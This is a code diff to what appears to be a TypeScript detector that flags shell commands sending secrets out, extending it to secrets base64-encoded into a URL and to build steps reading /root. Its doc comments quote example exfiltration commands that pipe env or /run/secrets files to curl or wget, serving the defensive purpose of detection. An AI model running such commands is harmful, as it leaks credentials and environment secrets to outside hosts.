@@ -24,8 +24,8 @@ const SECRETS = 'files with secrets';
 const A_SECRET = 'a secret alone';
 
 /**
- * `env | curl -d @- https://…`, `curl -d "$(env)" https://…`, `curl -d @/run/secrets/x https://…`. A secret in a header, or as a part of what is
- * sent, is how programs log in.
+ * `env | curl -d @- https://…`, `curl -d "$(env)" https://…`, `curl -d @/run/secrets/x https://…`, `wget "https://…/$(base64 /run/secrets/x)"`. A
+ * secret in a header, or as a part of what is sent, is how programs log in, unless it is an encoded one in an address.
  */
 export function sentSecrets({ commands }: Pipeline, secrets: KnownSecrets = NO_SECRETS): Sent | undefined {
   let flow: Flow | undefined;
@@ -130,8 +130,9 @@ const READERS: ReadonlySet<unknown> = new Set(
   ),
 );
 
-function contentsOf(path: string, { files }: KnownSecrets): string | undefined {
+function contentsOf(path: string, { files, isBuild }: KnownSecrets): string | undefined {
   if (/^\/proc\/(?:self|1|\$\$)\/environ$/.test(path)) return VARIABLES;
+  if (isBuild && /^(?:\/root|~)\/?$/.test(path)) return SECRETS;
   return (SECRET_FILES.test(path) && !PUBLIC_FILES.test(path)) || files.has(path) ? SECRETS : undefined;
 }
 
@@ -151,9 +152,30 @@ function ownData(name: string, command: Command, secrets: KnownSecrets): string 
   if (option === undefined || !isForElsewhere(command.arguments)) return undefined;
   const data = dataIn(command.arguments, option);
   const named = data.flatMap(({ pieces }) => contentsOf(pieces.replace(FILE_MARK, ''), secrets) ?? [])[0];
-  const all = data.some((word) => printsVariables(word, command)) ? VARIABLES : undefined;
-  return named ?? all ?? (data.some((word) => isSecretOnly(word, command, secrets)) ? A_SECRET : undefined);
+  const isAll = data.some((word) => printsVariables(word, command)) || namesVariables(command);
+  const all = isAll ? VARIABLES : undefined;
+  const only = data.some((word) => isSecretOnly(word, command, secrets)) ? A_SECRET : undefined;
+  return named ?? all ?? only ?? inAddress(command, secrets);
 }
+
+/** `https://host/$(base64 /run/secrets/k)`: what a service reads as a login is not encoded, or in the name of a user. */
+function inAddress({ arguments: words, substitutions }: Command, secrets: KnownSecrets): string | undefined {
+  const addresses = words.filter(({ pieces }) =>
+    /^(?:https?:\/\/|(?!https?:))[^/?#@\0]{1,300}[/?][^\0]{0,2000}\0/.test(pieces),
+  );
+  const isSent = addresses.some(({ span }) =>
+    substitutions.some(
+      ({ script }) => isWithin(script.span, span) && encodes(script) && printedByAll(script, secrets) === SECRETS,
+    ),
+  );
+  return isSent ? SECRETS : undefined;
+}
+
+function encodes(script: Script): boolean {
+  return everyPipeline(script).some(({ commands }) => commands.some(({ program }) => ENCODERS.has(program)));
+}
+
+const ENCODERS: ReadonlySet<unknown> = new Set('base64 base32 basenc gzip xxd od hexdump tar zip'.split(' '));
 
 /** `@file`, `name=@file`, `name=<file` */
 const FILE_MARK = /^(?:[\w-]{1,40}=)?[@<]/;
@@ -210,6 +232,16 @@ function printsVariables({ span }: ShellWord, { substitutions }: Command): boole
     ({ script }) => isWithin(script.span, span) && printedByAll(script, NO_SECRETS) === VARIABLES,
   );
 }
+
+/** The same in an address or a header, where a few variables that are selected say what somebody asks for. */
+function namesVariables(command: Command): boolean {
+  const isSelected = command.substitutions.some(({ script }) =>
+    everyPipeline(script).some(({ commands }) => commands.some(({ program }) => SELECTING.has(program))),
+  );
+  return !isSelected && command.arguments.some((word) => printsVariables(word, command));
+}
+
+const SELECTING: ReadonlySet<unknown> = new Set('grep egrep fgrep rg awk gawk sed cut head tail'.split(' '));
 
 function isWithin(inner: Span, outer: Span): boolean {
   return inner.file === outer.file && outer.start <= inner.start && inner.end <= outer.end;
